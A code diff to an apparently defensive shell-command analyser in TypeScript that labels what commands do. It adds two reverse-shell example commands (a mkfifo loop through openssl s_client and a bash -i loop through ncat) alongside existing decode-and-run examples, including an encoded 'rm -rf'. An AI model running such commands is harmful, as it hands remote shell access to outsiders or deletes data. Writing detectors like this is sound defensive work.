@@ -4,7 +4,7 @@
  */
 import { exactText } from '../args.ts';
 import type { Effect, Target } from '../effect.ts';
-import { UNKNOWN_FLOW } from '../flow.ts';
+import { labelledFlow, UNKNOWN_FLOW } from '../flow.ts';
 import type { Arg, Call, Flow, OptionSpec, Program, Reading } from '../program.ts';
 
 const OPTIONS: OptionSpec = {
@@ -28,6 +28,10 @@ const OPTIONS: OptionSpec = {
   ],
   stopAtOperand: true,
 };
+
+/** What a shell prints that runs whatever it is fed: behind a pipe to the network, somebody else's shell. */
+export const SHELL_SOURCE = 'shell://stdin';
+const SHELL_OUTPUT: Flow = labelledFlow(['unknown'], [SHELL_SOURCE]);
 
 function shell(call: Call): Reading {
   const words = call.args.filter((arg) => !/^\+[a-zA-Z]+$/.test(exactText(arg) ?? ''));
@@ -118,7 +122,7 @@ function unknownCode(call: Call, input: Flow, from: string): Reading {
   else if (input.labels.has('network')) effects.push(call.effect('run.remote-code', urls));
   else if (input.labels.has('decoded')) effects.push(call.effect('run.decoded'));
   else effects.push(call.effect('run.code', [], { language: 'shell', from }));
-  return { effects, output: UNKNOWN_FLOW };
+  return { effects, output: from === 'stdin' ? SHELL_OUTPUT : UNKNOWN_FLOW };
 }
 
 function together(readings: readonly Reading[]): Reading {
@@ -142,6 +146,11 @@ export const programs: readonly Program[] = [
       { command: 'echo cm0gLXJmIHg= | base64 -d | sh', effects: ['run.decoded', 'fs.delete'] },
       { command: 'base64 -d payload | sh', effects: ['run.decoded'] },
       { command: 'some-program | bash', effects: ['run.code'] },
+      {
+        command: 'mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | openssl s_client -connect h:1 > /tmp/f',
+        effects: ['net.reverse-shell'],
+      },
+      { command: 'cat /tmp/f | bash -i 2>&1 | ncat -u h 1 > /tmp/f', effects: ['net.reverse-shell'] },
       { command: 'bash -n script.sh', effects: [] },
       { command: "zsh -c 'ls'", effects: [] },
     ],
